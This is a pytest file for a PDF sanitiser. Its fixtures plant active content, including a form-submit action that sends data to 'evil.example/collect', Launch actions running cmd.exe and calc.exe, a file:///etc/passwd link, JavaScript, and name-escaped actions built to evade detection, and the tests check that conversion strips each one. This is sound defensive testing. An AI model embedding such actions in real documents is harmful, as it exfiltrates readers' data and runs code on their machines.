"""Active content is removed wherever it hides, reported, and found by neither verifier scan.

Each fixture plants one kind of active content (inside object streams unless said otherwise),
beside things that must survive: bookmarks, an internal link, a form field. The verifier must
find the planted content in the input (so that each test can fail) and nothing in the output.
"""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader

import msp_docs
from msp_docs.errors import UnsafeContent
from msp_docs.report import InputReport
from tests.pdfcheck import active_content, metadata_leaks
from tests.pdffixtures import (
    bookmarks,
    build,
    embedded_file_spec,
    goto,
    js,
    link,
    text_field,
)


def convert(data: bytes) -> tuple[bytes, InputReport]:
    out = io.BytesIO()
    report = msp_docs.convert(data, out)
    return out.getvalue(), report.inputs[0]


def survivors(pdf: pikepdf.Pdf) -> None:
    """What a sanitised document must keep: bookmarks, an internal link, a form field."""
    bookmarks(pdf, [("Chapter one", 0), ("Chapter two", 1)])
    link(pdf, 0, goto(pdf, 1), rect=(72, 100, 200, 120))
    text_field(pdf, 1, "name", value="Dupont", y=300)


def assert_survivors(data: bytes) -> None:
    reader = PdfReader(io.BytesIO(data))
    # The merge adds one bookmark per input; the input's own are nested under it.
    (top,) = [item for item in reader.outline if not isinstance(item, list)]
    nested = reader.outline[1]
    assert [item.title for item in nested] == ["Chapter one", "Chapter two"]
    assert [reader.get_destination_page_number(item) for item in nested] == [0, 1]
    assert reader.get_destination_page_number(top) == 0
    links = [a.get_object() for a in reader.pages[0].get("/Annots", [])]
    gotos = [a for a in links if a.get("/Subtype") == "/Link" and _action_type(a) == "/GoTo"]
    assert len(gotos) == 1
    assert reader.get_page_number(gotos[0]["/A"]["/D"][0].get_object()) == 1
    fields = reader.get_fields()
    assert fields is not None and fields["name"]["/V"] == "Dupont"


def _action_type(annot: dict) -> object:  # type: ignore[type-arg]
    action = annot.get("/A")
    return None if action is None else action.get_object().get("/S")


def counts(entry: InputReport) -> dict[str, int]:
    removed: dict[str, int] = entry.details["removed"]
    return removed


def names_tree(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    tree = pikepdf.NameTree.new(pdf)
    tree["startup"] = pdf.make_indirect(js())
    pdf.Root.Names = Dictionary(JavaScript=tree.obj)


def page_aa(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    pdf.pages[0].obj.AA = Dictionary(O=js("this.print()"), C=pdf.make_indirect(js()))


def widget_actions(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    text_field(
        pdf,
        0,
        "amount",
        value="12",
        A=js("calc()"),
        AA=Dictionary(K=js("AFNumber_Keystroke(2)"), F=pdf.make_indirect(js("fmt()"))),
    )


def open_action_chain(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"))
    start = goto(pdf, 0)
    start.Next = Array(
        [
            pdf.make_indirect(js()),
            Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=launch),
        ]
    )
    pdf.Root.OpenAction = start


def open_action_js(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    pdf.Root.OpenAction = pdf.make_indirect(js())


def launch(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    link(
        pdf, 0, Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    )


def submit_form(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    text_field(
        pdf,
        0,
        "send",
        A=Dictionary(
            S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))
        ),
    )


def import_data(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    link(pdf, 0, Dictionary(S=Name.ImportData, F=String("data.fdf")))


def goto_remote(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    link(pdf, 0, Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])))
    link(
        pdf,
        1,
        Dictionary(
            S=Name.GoToE, T=Dictionary(R=Name.C, N=String("inner.pdf")), D=Array([0, Name.Fit])
        ),
    )


def rich_media(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    spec = embedded_file_spec(pdf, "movie.swf", b"FWS flash")
    assets = pikepdf.NameTree.new(pdf)
    assets["movie.swf"] = spec
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([0, 0, 100, 100]),
            RichMediaContent=Dictionary(Assets=assets.obj),
            RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
        )
    )
    pdf.pages[0].obj.Annots.append(annot)
    link(pdf, 1, Dictionary(S=Name.RichMediaExecute, TA=annot, CMD=Dictionary(C=String("play"))))


def multimedia_annotations(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    clip = Dictionary(Type=Name.MediaClip, S=Name.MCD, D=embedded_file_spec(pdf, "clip.mp4"))
    rendition = Dictionary(Type=Name.Rendition, S=Name.MR, C=clip)
    screen = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([0, 0, 50, 50]))
    )
    screen.A = Dictionary(S=Name.Rendition, OP=0, AN=screen, R=rendition)
    sound = pdf.make_stream(b"\x00\x01" * 50, Type=Name.Sound, R=8000)
    annots = [
        screen,
        Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=Array([0, 0, 9, 9]),
                   **{"/3DD": pdf.make_stream(b"U3D data", Type=Name("/3D"), Subtype=Name.U3D)}),
        Dictionary(Type=Name.Annot, Subtype=Name.Sound, Rect=Array([0, 0, 9, 9]), Sound=sound),
        Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=Array([0, 0, 9, 9]),
                   Movie=Dictionary(F=String("film.mov"))),
    ]  # fmt: skip
    for annot in annots:
        pdf.pages[1].obj.Annots.append(pdf.make_indirect(annot))


def file_attachment(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    spec = embedded_file_spec(pdf)
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=Array([0, 0, 20, 20]),
            FS=spec,
            Contents=String("open me"),
        )
    )
    pdf.pages[1].obj.Annots.append(annot)


def associated_files(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    spec = embedded_file_spec(pdf, "data.xml", b"<x/>")
    pdf.Root.AF = Array([spec])
    pdf.pages[0].obj.AF = Array([spec])
    tree = pikepdf.NameTree.new(pdf)
    tree["data.xml"] = spec
    pdf.Root.Names = Dictionary(EmbeddedFiles=tree.obj)


def unsafe_uris(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    link(pdf, 0, Dictionary(S=Name.URI, URI=String("javascript:alert(1)")), rect=(0, 0, 10, 10))
    link(pdf, 0, Dictionary(S=Name.URI, URI=String("file:///etc/passwd")), rect=(0, 20, 10, 30))
    link(
        pdf,
        0,
        Dictionary(S=Name.URI, URI=String("https://www.service-public.fr/")),
        rect=(0, 40, 10, 50),
    )


def goto_then_js(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    action = goto(pdf, 0)
    action.Next = pdf.make_indirect(js())
    link(pdf, 1, action)
    chained = goto(pdf, 0)
    chained.Next = Array([pdf.make_indirect(js()), goto(pdf, 1)])
    link(pdf, 1, chained, rect=(0, 0, 10, 10))


def shared_js(pdf: pikepdf.Pdf) -> None:
    # One script object, reached from the catalog's names tree first (so it is numbered, and
    # emptied, before the page that links to it through a GoTo chain and a widget).
    survivors(pdf)
    script = pdf.make_indirect(js())
    tree = pikepdf.NameTree.new(pdf)
    tree["shared"] = script
    pdf.Root.Names = Dictionary(JavaScript=tree.obj)
    action = goto(pdf, 0)
    action.Next = script
    link(pdf, 1, action)
    link(pdf, 1, script, rect=(0, 0, 10, 10))


def outline_js(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    with pdf.open_outline() as outline:
        item = pikepdf.OutlineItem("Run me")
        outline.root.append(item)
    last = pdf.Root.Outlines.Last
    last.A = js()


CASES: dict[str, tuple[Callable[[pikepdf.Pdf], None], dict[str, int]]] = {
    "names-tree": (names_tree, {"javascript": 1}),
    "page-aa": (page_aa, {"javascript": 2}),
    "widget-a-and-aa": (widget_actions, {"javascript": 3}),
    "open-action-chain": (open_action_chain, {"javascript": 1, "launch": 1}),
    "open-action-js": (open_action_js, {"javascript": 1}),
    "launch": (launch, {"launch": 1}),
    "submit-form": (submit_form, {"submit-form": 1}),
    "import-data": (import_data, {"import-data": 1}),
    "goto-remote-embedded": (goto_remote, {"remote-goto": 1, "embedded-goto": 1}),
    "rich-media": (rich_media, {"multimedia": 1, "multimedia-annotation": 1, "embedded-file": 1}),
    "multimedia-annotations": (
        multimedia_annotations,
        {"multimedia": 1, "multimedia-annotation": 4, "embedded-file": 1},
    ),
    "file-attachment": (file_attachment, {"attachment-annotation": 1, "embedded-file": 1}),
    "associated-files": (associated_files, {"embedded-file": 1}),
    "unsafe-uris": (unsafe_uris, {"javascript": 1, "unsafe-uri": 1}),
    "outline-js": (outline_js, {"javascript": 1}),
    "goto-then-js": (goto_then_js, {"javascript": 2}),
    "shared-js": (shared_js, {"javascript": 1}),
}


@pytest.mark.parametrize("object_streams", [True, False], ids=["in-object-streams", "plain"])
@pytest.mark.parametrize("case", sorted(CASES))
def test_active_content_is_removed(case: str, object_streams: bool) -> None:
    change, expected = CASES[case]
    data = build(2, change, object_streams=object_streams)
    assert active_content(data), "the verifier must see what the fixture planted"
    output, entry = convert(data)
    assert active_content(output) == []
    assert metadata_leaks(output) == []
    removed = {k: v for k, v in counts(entry).items() if k not in ("info-dictionary",)}
    assert removed == expected
    assert_survivors(output)
    assert_no_empty_actions(output)


def assert_no_empty_actions(data: bytes) -> None:
    """No action slot leads to an emptied action: each is removed, not left hollow."""
    reader = PdfReader(io.BytesIO(data))
    for number in list(reader.xref.get(0, {})) + list(reader.xref_objStm):
        obj = reader.get_object(number)
        if not isinstance(obj, dict):
            continue
        # /Next of an outline item is its next sibling; of an action, the next action.
        for key in ("/A", "/Next", "/OpenAction") if "/S" in obj else ("/A", "/OpenAction"):
            value = obj.get(key)
            values = value if isinstance(value, list) else [value]
            for action in values:
                action = action.get_object() if action is not None else None
                if isinstance(action, dict):
                    assert "/S" in action, (number, key, action)


def test_notes_name_what_was_removed() -> None:
    _, entry = convert(build(2, open_action_chain))
    messages = {note.code: note.message() for note in entry.actions}
    assert messages["javascript-removed"] == "JavaScript removed (1)"
    assert messages["actions-removed"] == "active actions removed (Launch (1))"
    _, entry = convert(build(2, file_attachment))
    assert [n.code for n in entry.actions if n.code == "attachments-removed"] == [
        "attachments-removed"
    ]


def test_goto_open_action_is_kept_and_not_reported() -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        survivors(pdf)
        pdf.Root.OpenAction = goto(pdf, 1)

    _, entry = convert(build(2, change))
    assert counts(entry) == {}
    assert not [n for n in entry.actions if n.code in ("javascript-removed", "actions-removed")]


def test_https_link_is_kept() -> None:
    output, _ = convert(build(2, unsafe_uris))
    reader = PdfReader(io.BytesIO(output))
    uris = [
        str(a.get_object()["/A"]["/URI"])
        for a in reader.pages[0]["/Annots"]
        if "/A" in a.get_object() and a.get_object()["/A"].get("/S") == "/URI"
    ]
    assert uris == ["https://www.service-public.fr/"]


def test_escaped_names_are_recognised() -> None:
    # Hand-written: /J#61vaScript is /JavaScript, /A#41 is /AA. No xref: qpdf rebuilds it.
    raw = (
        b"%PDF-1.4\n"
        b"1 0 obj << /Type /Catalog /Pages 2 0 R\n"
        b"  /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] "
        b"/A#41 << /O << /S /Launch /F (x.exe) >> >> >> endobj\n"
        b"trailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
    )
    assert active_content(raw)
    output, entry = convert(raw)
    assert active_content(output) == []
    assert counts(entry) == {"javascript": 1, "launch": 1}


def test_names_that_are_not_utf8_do_not_hide_scripts() -> None:
    raw = (
        b"%PDF-1.4\n"
        b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >> endobj\n"
        b"4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /S /J#C7 "
        b"/X#C7 << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n"
        b"trailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
    )
    assert active_content(raw)
    output, entry = convert(raw)
    assert active_content(output) == []
    assert counts(entry) == {"javascript": 1}


def field_with_kids(pdf: pikepdf.Pdf) -> None:
    survivors(pdf)
    parent = pdf.make_indirect(
        Dictionary(FT=Name.Tx, T=String("parent"), V=String("x"), DA=String("/Helv 9 Tf 0 g"))
    )
    kids = []
    for y in (400, 440):
        widget = pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([72, y, 200, y + 20]),
                       Parent=parent, P=pdf.pages[0].obj)
        )  # fmt: skip
        pdf.pages[0].obj.Annots.append(widget)
        kids.append(widget)
    parent.Kids = Array(kids)
    pdf.Root.AcroForm.Fields.append(parent)


def test_form_with_lost_fields_keeps_the_others() -> None:
    # References to objects that are not in the file (lost fields, a lost kid) read as null.
    data = build(2, field_with_kids, object_streams=False)
    for anchor in (b"/Fields [ ", b"/FT /Tx /Kids [ "):
        assert data.count(anchor) == 1
        data = data.replace(anchor, anchor + b"999 0 R ")
    output, entry = convert(data)
    assert entry.accepted
    assert_survivors(output)
    fields = PdfReader(io.BytesIO(output)).get_fields()
    assert fields is not None and len(fields["parent"]["/Kids"]) == 2


def test_xfa_is_removed_when_fields_remain() -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        survivors(pdf)
        pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        pdf.Root.NeedsRendering = False

    data = build(2, change)
    assert "bytes: /XFA" in active_content(data)
    output, entry = convert(data)
    assert active_content(output) == []
    assert "xfa-removed" in [n.code for n in entry.actions]
    assert_survivors(output)


def test_xfa_only_form_is_refused() -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
        pdf.Root.NeedsRendering = True

    with pytest.raises(UnsafeContent) as caught:
        convert(build(1, change))
    assert caught.value.facts["reason"] == "xfa-only"
    assert "XFA" in caught.value.message("en")
    assert "XFA" in caught.value.message("fr")


def test_signature_value_is_removed_and_warned() -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        survivors(pdf)
        signature = pdf.make_indirect(
            Dictionary(
                Type=Name.Sig,
                Filter=Name("/Adobe.PPKLite"),
                SubFilter=Name("/adbe.pkcs7.detached"),
                ByteRange=Array([0, 10, 20, 30]),
                Contents=String(b"\x30\x82signature-bytes"),
                Name=String("Jean Dupont"),
            )
        )
        widget = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T=String("signature"),
                V=signature, Rect=Array([300, 50, 500, 100]), P=pdf.pages[0].obj,
            )
        )  # fmt: skip
        pdf.pages[0].obj.Annots.append(widget)
        pdf.Root.AcroForm.Fields.append(widget)
        pdf.Root.AcroForm.SigFlags = 3
        pdf.Root.Perms = Dictionary(DocMDP=signature)

    output, entry = convert(build(2, change))
    assert [n.code for n in entry.warnings] == ["signature-invalidated"]
    assert "signature-removed" in [n.code for n in entry.actions]
    assert counts(entry)["signature"] == 1
    assert b"Jean Dupont" not in output
    reader = PdfReader(io.BytesIO(output))
    fields = reader.get_fields()
    assert fields is not None and "/V" not in fields["signature"]
    assert "/Perms" not in reader.trailer["/Root"]
    assert "/SigFlags" not in reader.trailer["/Root"]["/AcroForm"]


def test_usage_rights_are_removed() -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        survivors(pdf)
        reference = Dictionary(
            Type=Name.SigRef,
            TransformMethod=Name.UR3,
            TransformParams=Dictionary(Form=Array([Name.FillIn])),
        )
        pdf.Root.Perms = Dictionary(
            UR3=Dictionary(
                Type=Name.Sig,
                ByteRange=Array([0, 1, 2, 3]),
                Contents=String(b"x"),
                Reference=Array([reference]),
            )
        )

    _, entry = convert(build(2, change))
    assert "usage-rights-removed" in [n.code for n in entry.actions]
    assert "signature-invalidated" not in [n.code for n in entry.warnings]
    assert counts(entry)["usage-rights"] == 1
